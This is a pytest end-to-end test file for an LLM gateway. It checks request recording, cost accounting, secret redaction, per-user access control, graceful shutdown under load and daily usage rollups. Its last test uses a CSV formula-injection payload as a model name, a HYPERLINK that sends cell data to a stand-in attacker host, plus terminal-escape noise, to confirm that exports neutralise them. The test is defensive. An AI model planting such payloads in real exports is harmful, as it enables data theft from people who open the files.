"""What irisgate records about each request, how users read it back, and that nothing recorded
is lost when the process is stopped under load.

A real irisgate process (tailscale identity, SQLite) in front of the FakeLLM; clients are the
official SDKs (and httpx2 for the management API and the load run).
"""

from __future__ import annotations

import csv
import io
import json
import signal
import sqlite3
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from decimal import ROUND_HALF_EVEN, Decimal
from pathlib import Path
from typing import Any

import genai_prices
import httpx2
import openai
import pytest
from conftest import (
    ALICE_IP,
    ANTHROPIC_KEY,
    BOB_IP,
    CI_IP,
    NOBODY_IP,
    OPENAI_KEY,
    anthropic_client,
    gateway_config,
    http_from,
    openai_client,
    wait_for_record,
)

from irisgate.testing import FakeLLM, FakeLocalAPI
from irisgate.testing.server import IrisgateServer

UNPRICED_MODEL = "gpt-irisgate-unreleased"  # served by the openai provider, unknown to prices
CLIENT_KEY = "client-placeholder-key"


def config_with_unpriced_model(upstream: str) -> str:
    config = json.loads(gateway_config(upstream).split("\n", 1)[1])
    config["providers"]["openai"]["models"].append(UNPRICED_MODEL)
    return json.dumps(config, indent=2)


@pytest.fixture(scope="module")
def gateway(
    fake_llm: FakeLLM, localapi: FakeLocalAPI, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[IrisgateServer]:
    """The shared e2e gateway's config plus one openai model that genai-prices does not know."""
    assert localapi.socket_path
    server = IrisgateServer(
        config_with_unpriced_model(fake_llm.base_url),
        data_dir=tmp_path_factory.mktemp("capture"),
        identity="tailscale",
        tailscaled_socket=localapi.socket_path,
    )
    with server:
        yield server


def expected_cost(provider: str, model: str, **tokens: int) -> int:
    """genai-prices' price for these tokens, in nanodollars."""
    price = genai_prices.calc_price(genai_prices.Usage(**tokens), model, provider_id=provider)
    nanos = price.total_price * Decimal(1_000_000_000)
    return int(nanos.to_integral_value(ROUND_HALF_EVEN))


def stable_id(localapi: FakeLocalAPI, ip: str) -> str:
    whois = localapi.whois(f"{ip}:1")
    assert whois is not None
    return str(whois["Node"]["StableID"])


def assert_no_secret(record: dict[str, Any], *secrets: str) -> None:
    text = json.dumps(record)
    for secret in secrets:
        assert secret not in text


# -- one record per request, with everything in it --------------------------------------------


def test_openai_request_is_recorded_with_identity_tokens_and_cost(
    gateway: IrisgateServer, fake_llm: FakeLLM, localapi: FakeLocalAPI
) -> None:
    fake_llm.n_chunks = 7
    fake_llm.cached_tokens = 3
    fake_llm.reasoning_tokens = 4
    client = openai_client(gateway, CI_IP)  # a tagged node: tag:ci,tag:prod
    raw = client.chat.completions.with_raw_response.create(
        model="gpt-4o-mini",
        messages=[{"role": "user", "content": "one two three four five"}],
        extra_headers={"x-session-id": "ci-build-4711"},
    )
    completion = raw.parse()
    assert completion.usage is not None and completion.usage.prompt_tokens == 8
    record = wait_for_record(gateway, raw.headers["x-irisgate-request-id"])
    upstream = fake_llm.last_request

    assert record["login_name"] == "tag:ci,tag:prod"
    assert record["tags"] == ["tag:ci", "tag:prod"]
    assert record["node_name"] == "ci-runner"
    assert record["node_id"] == stable_id(localapi, CI_IP)
    assert (record["model"], record["provider"]) == ("gpt-4o-mini", "openai")
    assert (record["api_format"], record["api_type"]) == ("openai_chat", "oai_completions")
    assert (record["method"], record["path"]) == ("POST", "/v1/chat/completions")
    assert record["status"] == 200 and record["error"] == "" and record["cancelled"] is False
    assert record["stream"] is False
    assert 0 < record["ttfb_ms"] <= record["duration_ms"]
    assert record["input_tokens"] == 8  # 5 counted words + 3 cached
    assert record["cache_read_tokens"] == 3
    assert record["output_tokens"] == 11  # 7 pieces + 4 reasoning
    assert record["reasoning_tokens"] == 4
    assert record["cache_write_5m_tokens"] == record["cache_write_1h_tokens"] == 0
    assert record["total_tokens"] == 19
    cost = expected_cost(
        "openai", "gpt-4o-mini", input_tokens=8, output_tokens=11, cache_read_tokens=3
    )
    assert record["cost_nanodollars"] == cost > 0
    assert record["cost_basis"] == "openai/gpt-4o-mini"
    assert record["session_id"] == "ci-build-4711"
    assert record["user_agent"] == upstream.headers["user-agent"]
    assert record["user_agent"].startswith("OpenAI/Python")

    # the provider key was injected upstream, and is stored nowhere
    assert upstream.headers["authorization"] == f"Bearer {OPENAI_KEY}"
    assert record["request_headers"]["authorization"] == "[redacted]"
    assert record["request_headers"]["x-provider-header"] == "from-provider"
    assert_no_secret(record, OPENAI_KEY, CLIENT_KEY)
    assert record["request_body"] == upstream.body.decode()
    assert record["response_body"] == raw.http_response.content.decode()
    assert record["response_headers"]["openai-version"] == "2020-10-01"
    assert record["captured"] is True


def test_openai_cache_writes_are_recorded_and_priced(
    gateway: IrisgateServer, fake_llm: FakeLLM
) -> None:
    """`cache_write_tokens` of a chat completion and of a streamed Responses answer."""
    fake_llm.cached_tokens = 2
    fake_llm.cache_write_5m_tokens = 1000  # reported by OpenAI as one `cache_write_tokens`
    client = openai_client(gateway)
    chat = client.chat.completions.with_raw_response.create(
        model="gpt-4o-mini", messages=[{"role": "user", "content": "one two three"}]
    )
    details = chat.parse().usage.prompt_tokens_details  # type: ignore[union-attr]
    assert details is not None and details.cache_write_tokens == 1000
    streamed = client.responses.with_raw_response.create(
        model="gpt-5-mini", input="one two three", stream=True
    )
    stream_id = streamed.headers["x-irisgate-request-id"]
    assert [e.type for e in streamed.parse()][-1] == "response.completed"

    for request_id, model in (
        (chat.headers["x-irisgate-request-id"], "gpt-4o-mini"),
        (stream_id, "gpt-5-mini"),
    ):
        record = wait_for_record(gateway, request_id)
        assert record["input_tokens"] == 3 + 2 + 1000  # the whole prompt, writes included
        assert record["cache_read_tokens"] == 2
        assert record["cache_write_5m_tokens"] == 1000
        assert record["cache_write_1h_tokens"] == 0
        assert record["usage_estimated"] is False
        cost = expected_cost(
            "openai",
            model,
            input_tokens=1005,
            output_tokens=20,
            cache_read_tokens=2,
            cache_write_tokens=1000,
        )
        assert record["cost_nanodollars"] == cost > 0


def test_anthropic_stream_is_recorded_reassembled_with_cache_tokens(
    gateway: IrisgateServer, fake_llm: FakeLLM, localapi: FakeLocalAPI
) -> None:
    fake_llm.n_chunks = 9
    fake_llm.chunk_delay = 0.03
    fake_llm.cached_tokens = 2
    fake_llm.cache_write_5m_tokens = 3
    fake_llm.cache_write_1h_tokens = 4
    session = str(uuid.uuid4())
    user_id = f"user_4f1c9e_account_7a2b_session_{session}"  # how Claude Code sends it
    with anthropic_client(gateway).messages.stream(
        model="claude-sonnet-4-5",
        max_tokens=256,
        system="be brief",
        messages=[{"role": "user", "content": "alpha beta gamma delta"}],
        metadata={"user_id": user_id},
    ) as stream:
        text = stream.get_final_text()
        request_id = stream.response.headers["x-irisgate-request-id"]
    assert text.startswith("tok0 tok1") and text.endswith("tok8")
    record = wait_for_record(gateway, request_id)
    upstream = fake_llm.last_request

    assert record["login_name"] == "alice@example.com"
    assert record["display_name"] == "Alice"
    assert record["node_name"] == "alice-laptop"
    assert record["node_id"] == stable_id(localapi, ALICE_IP)
    assert record["tags"] == []
    assert (record["model"], record["provider"]) == ("claude-sonnet-4-5", "anthropic")
    assert (record["api_format"], record["api_type"]) == ("anthropic_messages", "ant_messages")
    assert record["path"] == "/v1/messages"
    assert record["stream"] is True and record["status"] == 200
    assert record["duration_ms"] >= 200  # 9 events 30 ms apart
    assert 0 < record["ttfb_ms"] < record["duration_ms"] - 150  # the first byte came early
    # 6 counted words (system + user) + 2 cache reads + 3 + 4 cache writes
    assert record["input_tokens"] == 15
    assert record["cache_read_tokens"] == 2
    assert record["cache_write_5m_tokens"] == 3
    assert record["cache_write_1h_tokens"] == 4
    assert record["output_tokens"] == 9
    cost = expected_cost(
        "anthropic",
        "claude-sonnet-4-5",
        input_tokens=15,
        output_tokens=9,
        cache_read_tokens=2,
        cache_write_tokens=7,
        cache_write_1h_tokens=4,
    )
    assert record["cost_nanodollars"] == cost > 0
    assert record["session_id"] == session
    assert record["user_agent"].startswith("Anthropic/Python")

    assert upstream.headers["x-api-key"] == ANTHROPIC_KEY
    assert record["request_headers"]["x-api-key"] == "[redacted]"
    assert "authorization" not in record["request_headers"]  # the client's never went upstream
    assert "authorization" not in upstream.headers
    assert_no_secret(record, ANTHROPIC_KEY, CLIENT_KEY)
    assert record["request_body"] == upstream.body.decode()

    message = json.loads(record["response_body"])  # one object, not the event stream
    assert message["type"] == "message"
    assert message["content"] == [{"type": "text", "text": text}]
    assert message["stop_reason"] == "end_turn"
    assert message["usage"]["output_tokens"] == 9


def test_openai_stream_capture_holds_the_reassembled_completion(
    gateway: IrisgateServer, fake_llm: FakeLLM
) -> None:
    stream = openai_client(gateway).chat.completions.with_raw_response.create(
        model="gpt-5-mini", messages=[{"role": "user", "content": "count"}], stream=True
    )
    text = "".join(c.choices[0].delta.content or "" for c in stream.parse() if c.choices)
    record = wait_for_record(gateway, stream.headers["x-irisgate-request-id"])
    completion = json.loads(record["response_body"])
    assert completion["object"] == "chat.completion"
    assert completion["choices"][0]["message"]["content"] == text
    assert text == " ".join(f"tok{i}" for i in range(20))
    assert (record["input_tokens"], record["output_tokens"]) == (1, 20)
    # what went upstream (include_usage added) is what is stored as the request body
    assert json.loads(record["request_body"])["stream_options"] == {"include_usage": True}
    assert record["request_body"] == fake_llm.last_request.body.decode()
    assert record["cost_nanodollars"] == expected_cost(
        "openai", "gpt-5-mini", input_tokens=1, output_tokens=20
    )


@pytest.mark.parametrize(
    ("ip", "model"), [(BOB_IP, "llama-local"), (ALICE_IP, UNPRICED_MODEL)], ids=["local", "unknown"]
)
def test_unpriced_models_record_tokens_and_a_null_cost(
    gateway: IrisgateServer, ip: str, model: str
) -> None:
    raw = openai_client(gateway, ip).chat.completions.with_raw_response.create(
        model=model, messages=[{"role": "user", "content": "how much is this"}]
    )
    assert raw.parse().choices[0].message.content
    record = wait_for_record(gateway, raw.headers["x-irisgate-request-id"])
    assert record["model"] == model
    assert (record["input_tokens"], record["output_tokens"]) == (4, 20)
    assert record["cost_nanodollars"] is None
    assert record["cost_basis"] == ""


# -- sessions ----------------------------------------------------------------------------------


def test_session_ids_from_headers_codex_and_fingerprints(gateway: IrisgateServer) -> None:
    client = openai_client(gateway)

    def session_of(raw: Any) -> str:
        return str(wait_for_record(gateway, raw.headers["x-irisgate-request-id"])["session_id"])

    codex = str(uuid.uuid4())
    raw = client.responses.with_raw_response.create(
        model="gpt-4o-mini", input="fix the build", extra_headers={"session_id": codex}
    )
    assert session_of(raw) == codex

    first_turn = [
        {"role": "system", "content": "You plan trips."},
        {"role": "user", "content": "Plan a weekend in Lisbon"},
    ]
    one = client.chat.completions.with_raw_response.create(model="gpt-4o-mini", messages=first_turn)
    answer = one.parse().choices[0].message.content
    two = client.chat.completions.with_raw_response.create(
        model="gpt-4o-mini",
        messages=[
            *first_turn,
            {"role": "assistant", "content": answer},
            {"role": "user", "content": "and then Porto?"},
        ],
    )
    other = client.chat.completions.with_raw_response.create(
        model="gpt-4o-mini",
        messages=[
            {"role": "system", "content": "You plan trips."},
            {"role": "user", "content": "Rome"},
        ],
    )
    session = session_of(one)
    assert session.startswith("fp_")
    assert session_of(two) == session
    assert session_of(other) != session
    # another person starting the very same conversation is another session
    bob = openai_client(gateway, BOB_IP).chat.completions.with_raw_response.create(
        model="llama-local", messages=first_turn
    )
    assert session_of(bob) != session


# -- reading requests back ---------------------------------------------------------------------


def _ids(rows: list[dict[str, Any]]) -> list[str]:
    return [row["request_id"] for row in rows]


def test_request_list_is_newest_first_and_filters(gateway: IrisgateServer) -> None:
    session = f"list-{uuid.uuid4()}"
    headers = {"x-session-id": session}
    sent: list[str] = []
    for ip, model in [
        (ALICE_IP, "gpt-4o-mini"),
        (ALICE_IP, "claude-haiku-4-5"),
        (ALICE_IP, "gpt-4o-mini"),
        (BOB_IP, "claude-haiku-4-5"),
    ]:
        if model.startswith("claude"):
            raw: Any = anthropic_client(gateway, ip).messages.with_raw_response.create(
                model=model,
                max_tokens=32,
                messages=[{"role": "user", "content": "hi"}],
                extra_headers=headers,
            )
        else:
            raw = openai_client(gateway, ip).chat.completions.with_raw_response.create(
                model=model, messages=[{"role": "user", "content": "hi"}], extra_headers=headers
            )
        sent.append(raw.headers["x-irisgate-request-id"])
        time.sleep(0.01)
    records = [wait_for_record(gateway, rid) for rid in sent]

    with http_from(ALICE_IP, gateway.url) as admin:

        def listed(**params: str) -> list[str]:
            resp = admin.get("/api/requests", params={"session": session, **params})
            assert resp.status_code == 200, resp.text
            return _ids(resp.json()["requests"])

        assert listed() == sent[::-1]  # one row per request, newest first
        assert listed(user="alice@example.com") == sent[2::-1]
        assert listed(user="bob@example.com") == [sent[3]]
        assert listed(model="gpt-4o-mini") == [sent[2], sent[0]]
        assert listed(model="claude-haiku-4-5", user="alice@example.com") == [sent[1]]
        second = records[1]["started_at"]  # millisecond precision, UTC, "Z"
        assert second.endswith("Z")
        assert listed(since=second) == sent[:0:-1]
        assert listed(until=second) == [sent[0]]
        assert listed(since=second, until=records[3]["started_at"]) == [sent[2], sent[1]]
        assert listed(since="2000-01-01T00:00:00Z", until="2000-01-02T00:00:00Z") == []

        page = admin.get("/api/requests", params={"session": session, "limit": "3"}).json()
        assert _ids(page["requests"]) == sent[:0:-1]
        rest = admin.get(
            "/api/requests",
            params={"session": session, "limit": "3", "before": str(page["next_before"])},
        ).json()
        assert _ids(rest["requests"]) == [sent[0]]

        assert admin.get("/api/requests", params={"since": "yesterday"}).status_code == 400


def test_users_see_only_their_own_requests_admins_see_all(gateway: IrisgateServer) -> None:
    alice_raw = openai_client(gateway, ALICE_IP).chat.completions.with_raw_response.create(
        model="gpt-4o-mini", messages=[{"role": "user", "content": "mine"}]
    )
    bob_raw = anthropic_client(gateway, BOB_IP).messages.with_raw_response.create(
        model="claude-haiku-4-5", max_tokens=32, messages=[{"role": "user", "content": "mine"}]
    )
    ci_raw = openai_client(gateway, CI_IP).chat.completions.with_raw_response.create(
        model="gpt-5-mini", messages=[{"role": "user", "content": "mine"}]
    )
    alice_id, bob_id, ci_id = (
        r.headers["x-irisgate-request-id"] for r in (alice_raw, bob_raw, ci_raw)
    )
    for rid in (alice_id, bob_id, ci_id):
        wait_for_record(gateway, rid)

    with http_from(BOB_IP, gateway.url) as bob, http_from(ALICE_IP, gateway.url) as admin:
        mine = bob.get("/api/requests", params={"limit": "500"}).json()["requests"]
        assert bob_id in _ids(mine)
        assert {row["login_name"] for row in mine} == {"bob@example.com"}
        assert bob.get("/api/requests", params={"user": "alice@example.com"}).status_code == 403
        assert bob.get(f"/api/requests/{alice_id}").status_code == 404
        assert bob.get(f"/api/requests/{ci_id}").status_code == 404
        assert bob.get(f"/api/requests/{bob_id}").json()["login_name"] == "bob@example.com"
        assert bob.get("/api/requests/req_doesnotexist").status_code == 404

        everyone = _ids(admin.get("/api/requests", params={"limit": "500"}).json()["requests"])
        assert {alice_id, bob_id, ci_id} <= set(everyone)
        assert admin.get(f"/api/requests/{bob_id}").status_code == 200
        only_bob = admin.get("/api/requests", params={"user": "bob@example.com", "limit": "500"})
        assert {row["login_name"] for row in only_bob.json()["requests"]} == {"bob@example.com"}

    with http_from(NOBODY_IP, gateway.url) as nobody:
        assert nobody.get("/api/requests").status_code == 403


# -- SIGTERM under load, and the daily rollups -------------------------------------------------


@dataclass
class Outcome:
    request_id: str | None
    status: int
    complete: bool
    started: float
    finished: float


@dataclass
class LoadRun:
    db_path: Path
    outcomes: list[Outcome] = field(default_factory=list)
    sigterm_at: float = 0.0
    exit_code: int | None = None
    logs: str = ""


JOBS: list[tuple[str, str, dict[str, Any]]] = [
    (ALICE_IP, "/v1/chat/completions", {"model": "gpt-4o-mini"}),
    (ALICE_IP, "/v1/chat/completions", {"model": "gpt-4o-mini", "stream": True}),
    (ALICE_IP, "/v1/messages", {"model": "claude-sonnet-4-5", "stream": True}),
    (BOB_IP, "/v1/messages", {"model": "claude-haiku-4-5"}),
    (BOB_IP, "/v1/chat/completions", {"model": "llama-local", "stream": True}),
    (CI_IP, "/v1/chat/completions", {"model": "gpt-5-mini"}),
    (CI_IP, "/v1/responses", {"model": "gpt-5-mini", "stream": True}),
    (ALICE_IP, "/v1/responses", {"model": "gpt-4o-mini"}),
]
N_REQUESTS = 200
N_THREADS = 8


def _job_body(index: int) -> tuple[str, str, dict[str, Any], bool]:
    ip, path, extra = JOBS[index % len(JOBS)]
    words = " ".join(["word"] * (1 + index % 5))
    if path == "/v1/responses":
        body: dict[str, Any] = {"input": words}
    else:
        body = {"messages": [{"role": "user", "content": words}]}
    if path == "/v1/messages":
        body["max_tokens"] = 64
    body.update(extra)
    return ip, path, body, bool(extra.get("stream"))


def _complete(path: str, stream: bool, resp: httpx2.Response) -> bool:
    if resp.status_code == 503 and b"shutting down" in resp.content:
        return False  # refused at the door during the shutdown grace: nothing was served
    if resp.status_code != 200:
        return bool(resp.content)  # an upstream error, answered in full
    if not stream:
        return isinstance(resp.json(), dict)
    if path == "/v1/chat/completions":
        return resp.content.endswith(b"data: [DONE]\n\n")
    if path == "/v1/messages":
        return b"event: message_stop" in resp.content
    return b"event: response.completed" in resp.content


@pytest.fixture(scope="module")
def load_run(
    fake_llm: FakeLLM, localapi: FakeLocalAPI, tmp_path_factory: pytest.TempPathFactory
) -> LoadRun:
    """200 requests from 8 threads (half streamed); SIGTERM once 100 have been answered."""
    assert localapi.socket_path
    data_dir = tmp_path_factory.mktemp("sigterm")
    server = IrisgateServer(
        gateway_config(fake_llm.base_url),
        data_dir=data_dir,
        identity="tailscale",
        tailscaled_socket=localapi.socket_path,
    ).start()
    run = LoadRun(db_path=data_dir / "irisgate.db")
    fake_llm.reset()
    fake_llm.n_chunks = 10
    fake_llm.chunk_delay = 0.015  # streams last ~0.15 s: many are in flight at any moment
    fake_llm.fail_next(429, count=3)
    fake_llm.fail_next(500, count=2)
    lock = threading.Lock()
    next_index = iter(range(N_REQUESTS))
    answered = threading.Event()

    def worker() -> None:
        clients: dict[str, httpx2.Client] = {}
        try:
            while True:
                with lock:
                    index = next(next_index, None)
                if index is None:
                    return
                ip, path, body, stream = _job_body(index)
                client = clients.get(ip)
                if client is None:
                    client = clients[ip] = http_from(ip, server.url)
                    client.timeout = httpx2.Timeout(15)
                started = time.monotonic()
                try:
                    resp = client.post(path, json=body, headers={"anthropic-version": "2023-06-01"})
                    outcome = Outcome(
                        resp.headers.get("x-irisgate-request-id"),
                        resp.status_code,
                        _complete(path, stream, resp),
                        started,
                        time.monotonic(),
                    )
                except httpx2.HTTPError:
                    outcome = Outcome(None, 0, False, started, time.monotonic())
                with lock:
                    run.outcomes.append(outcome)
                    if sum(o.complete for o in run.outcomes) >= N_REQUESTS // 2:
                        answered.set()
        finally:
            for client in clients.values():
                client.close()

    threads = [threading.Thread(target=worker) for _ in range(N_THREADS)]
    try:
        for thread in threads:
            thread.start()
        assert answered.wait(30), "the load never got going"
        assert server.process is not None
        run.sigterm_at = time.monotonic()
        server.process.send_signal(signal.SIGTERM)
        for thread in threads:
            thread.join(30)
        run.exit_code = server.process.wait(30)
    finally:
        server.stop()
        fake_llm.reset()
    run.logs = server.logs()
    return run


def _sqlite(path: Path) -> sqlite3.Connection:
    conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    conn.row_factory = sqlite3.Row
    return conn


def test_sigterm_under_load_loses_no_answered_request(load_run: LoadRun) -> None:
    # a clean stop: every answer sent, the capture queue drained, exit status 0
    assert load_run.exit_code == 0, load_run.logs[-3000:]
    assert "Application shutdown complete" in load_run.logs
    assert "not stored" not in load_run.logs
    assert len(load_run.outcomes) == N_REQUESTS
    complete = [o for o in load_run.outcomes if o.complete]
    assert all(o.request_id for o in complete)
    assert len(complete) >= N_REQUESTS // 2
    # the stop really happened under load: answers were being streamed when SIGTERM came
    in_flight = [o for o in complete if o.started < load_run.sigterm_at < o.finished]
    assert in_flight, "no request was in flight at SIGTERM"
    # and requests arriving after it were refused, not half-served: with a 503 during the
    # shutdown grace (the port stays open), or at the door once it closed
    late = [o for o in load_run.outcomes if not o.complete and o.started > load_run.sigterm_at]
    assert late
    assert {o.status for o in late} <= {503, 0}

    with _sqlite(load_run.db_path) as conn:
        stored = {
            row["request_id"]: row
            for row in conn.execute(
                "SELECT request_id, status, cancelled, output_tokens FROM requests"
            )
        }
        captured = {row[0] for row in conn.execute("SELECT request_id FROM captures")}
    missing = [o.request_id for o in complete if o.request_id not in stored]
    assert not missing, f"{len(missing)} answered requests were not recorded"
    assert {o.request_id for o in complete} <= captured
    for outcome in complete:
        row = stored[outcome.request_id]
        assert row["status"] == outcome.status
        assert not row["cancelled"]
        if outcome.status == 200:
            assert row["output_tokens"] == 10
    assert sorted(o.status for o in complete if o.status != 200) == [429, 429, 429, 500, 500]


def test_sigint_stops_like_sigterm_with_status_zero(
    fake_llm: FakeLLM, localapi: FakeLocalAPI, tmp_path: Path
) -> None:
    """Ctrl+C in a terminal: a graceful stop that still records what was answered."""
    assert localapi.socket_path
    server = IrisgateServer(
        gateway_config(fake_llm.base_url),
        data_dir=tmp_path,
        identity="tailscale",
        tailscaled_socket=localapi.socket_path,
    )
    with server:
        answer = openai_client(server).chat.completions.with_raw_response.create(
            model="gpt-4o-mini", messages=[{"role": "user", "content": "one"}]
        )
        assert server.process is not None
        server.process.send_signal(signal.SIGINT)
        assert server.process.wait(30) == 0, server.logs()[-3000:]
    with _sqlite(tmp_path / "irisgate.db") as conn:
        rows = conn.execute("SELECT request_id FROM requests").fetchall()
    assert [row[0] for row in rows] == [answer.headers["x-irisgate-request-id"]]


SUM_COLUMNS = (
    "input_tokens",
    "output_tokens",
    "cache_read_tokens",
    "cache_write_5m_tokens",
    "cache_write_1h_tokens",
    "reasoning_tokens",
    "image_input_tokens",
    "image_output_tokens",
    "web_search_count",
    "total_tokens",
)


def test_daily_rollups_equal_the_request_rows(load_run: LoadRun) -> None:
    sums = ", ".join(f"SUM({c}) AS {c}" for c in SUM_COLUMNS)
    from_requests = f"""
        SELECT substr(started_at, 1, 10) AS day, login_name, model, provider,
               COUNT(*) AS requests, {sums},
               COALESCE(SUM(cost_nanodollars), 0) AS cost_nanodollars,
               SUM(cost_nanodollars IS NULL) AS unpriced_requests,
               SUM(status >= 400 OR error != '') AS error_requests,
               SUM(CASE WHEN cost_nanodollars IS NULL THEN 0 ELSE total_tokens END)
                   AS priced_tokens
        FROM requests GROUP BY 1, 2, 3, 4 ORDER BY 1, 2, 3, 4
    """
    from_rollups = f"""
        SELECT day, login_name, model, provider, requests,
               {", ".join(SUM_COLUMNS)}, cost_nanodollars, unpriced_requests, error_requests,
               priced_tokens
        FROM usage_daily ORDER BY 1, 2, 3, 4
    """
    with _sqlite(load_run.db_path) as conn:
        expected = [dict(row) for row in conn.execute(from_requests)]
        rollups = [dict(row) for row in conn.execute(from_rollups)]
        total = conn.execute("SELECT COUNT(*) FROM requests").fetchone()[0]
    assert rollups == expected
    assert sum(r["requests"] for r in rollups) == total >= N_REQUESTS // 2
    # the load covered every kind of key: several people, models, priced and unpriced, errors
    assert {r["login_name"] for r in rollups} == {
        "alice@example.com",
        "bob@example.com",
        "tag:ci,tag:prod",
    }
    assert len(rollups) == 5  # (login, model) pairs of JOBS
    assert any(r["unpriced_requests"] for r in rollups)
    assert sum(r["error_requests"] for r in rollups) == 5
    assert all(r["cost_nanodollars"] > 0 for r in rollups if r["model"] != "llama-local")


# -- names the caller chose, in records and exports ---------------------------------------------


def test_unrouted_models_are_recorded_bounded_and_export_as_text_not_formulas(
    gateway: IrisgateServer, fake_llm: FakeLLM
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    noisy = "@SUM(1)\x1b[2J\r\n\u202e" + "m" * 5000
    client = openai_client(gateway)
    errors = {}
    for model in (formula, noisy, "-2+3"):
        with pytest.raises(openai.NotFoundError) as caught:
            client.chat.completions.create(
                model=model, messages=[{"role": "user", "content": "hi"}]
            )
        errors[model] = caught.value
    assert fake_llm.requests == []
    shown = "@SUM(1)\ufffd[2J\ufffd\ufffd\ufffd" + "m" * 185 + "…"
    assert len(shown) == 200
    assert errors[noisy].body["message"] == (  # type: ignore[index]
        f"model '{shown}' is not served by any provider"
    )
    request_id = errors[noisy].response.headers["x-irisgate-request-id"]
    assert wait_for_record(gateway, request_id)["model"] == shown
    wait_for_record(gateway, errors["-2+3"].response.headers["x-irisgate-request-id"])

    with http_from(ALICE_IP, gateway.url) as admin:
        export = admin.get("/api/usage/export.csv")
    assert export.status_code == 200
    models = {row["model"] for row in csv.DictReader(io.StringIO(export.text))}
    assert {"'" + formula, "'" + shown, "'-2+3"} <= models
    assert not [m for m in models if m[:1] in ("=", "+", "-", "@", "\t", "\r")]
